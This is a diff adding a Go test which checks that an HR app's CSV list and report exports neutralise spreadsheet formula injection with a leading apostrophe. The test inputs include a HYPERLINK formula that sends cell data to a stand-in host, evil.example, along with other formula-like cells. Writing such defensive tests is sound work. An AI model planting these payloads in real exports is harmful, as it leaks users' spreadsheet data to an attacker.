@@ -1,6 +1,8 @@
 package ui_test
 
 import (
+	"context"
+	"encoding/csv"
 	"net/http"
 	"net/url"
 	"strings"
@@ -59,4 +61,88 @@ func TestErrorPages(t *testing.T) {
 	api.want(t, "unknown API route", http.StatusNotFound, `"code":"not_found"`)
 	api = anon.do("PUT", "/api/openapi.json", url.Values{})
 	api.want(t, "wrong API method", http.StatusMethodNotAllowed, `"code":"method_not_allowed"`)
+}
+
+// CSV exports neutralise text cells a spreadsheet would run as formulas
+// (a leading apostrophe) and keep numbers as they are: the list export and
+// the report export, on both databases.
+func TestCSVExportsCarryNoFormulas(t *testing.T) {
+	p := enginetest.Load(t, map[string]string{"hr/app.yaml": `
+app: hr
+title: 人事
+entities:
+  adjustment:
+    title: 调整
+    fields:
+      purpose: {type: string, label: 用途, required: true}
+      amount:  {type: money, label: 金额}
+      count:   {type: int, label: 次数}
+reports:
+  by_purpose:
+    title: 按用途
+    entity: adjustment
+    group_by: [purpose]
+    measures:
+      - {name: total, label: 金额, agg: sum, field: amount}
+roles:
+  clerk: {scope: all, can: {adjustment: [read, export]}}
+`})
+	hostile := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	enginetest.ForEachDB(t, func(t *testing.T, d engine.Dialect) {
+		s := startServer(t, d, p)
+		for _, in := range []map[string]any{
+			{"purpose": hostile, "amount": "-12.50", "count": -3},
+			{"purpose": "-1+1", "amount": "7.00"},
+			{"purpose": "\t@cmd", "amount": "0.01"},
+		} {
+			enginetest.Must(s.rt.Create(context.Background(), engine.SystemActor, "hr", "adjustment", in))
+		}
+		s.addUser(t, "clerk", "", "hr.clerk")
+		b := s.browser(t)
+		b.login("clerk")
+
+		list := b.get("/ui/hr/adjustment/export.csv?sort=id&lang=zh")
+		list.want(t, "list export", 200)
+		rows := readCSV(t, list.body)
+		want := [][]string{{"'" + hostile, "-12.50", "-3"}, {"'-1+1", "7.00", ""}, {"'\t@cmd", "0.01", ""}}
+		for i, w := range want {
+			row := rows[i+1]
+			got := []string{row[col(t, rows[0], "用途")], row[col(t, rows[0], "金额")], row[col(t, rows[0], "次数")]}
+			if strings.Join(got, "|") != strings.Join(w, "|") {
+				t.Errorf("list export row %d: %q, want %q", i+1, got, w)
+			}
+		}
+
+		report := b.get("/ui/reports/hr/by_purpose/export.csv?lang=zh")
+		report.want(t, "report export", 200)
+		cells := map[string]string{}
+		for _, row := range readCSV(t, report.body)[1:] {
+			cells[row[0]] = row[len(row)-1]
+		}
+		for purpose, total := range map[string]string{"'" + hostile: "-12.50", "'-1+1": "7.00", "'\t@cmd": "0.01", "合计": "-5.49"} {
+			if got, ok := cells[purpose]; !ok || got != total {
+				t.Errorf("report export: %q → %q (present %v), want %q; rows %q", purpose, got, ok, total, cells)
+			}
+		}
+	})
+}
+
+func readCSV(t *testing.T, body string) [][]string {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+func col(t *testing.T, header []string, label string) int {
+	t.Helper()
+	for i, h := range header {
+		if h == label {
+			return i
+		}
+	}
+	t.Fatalf("no column %s in %q", label, header)
+	return -1
 }
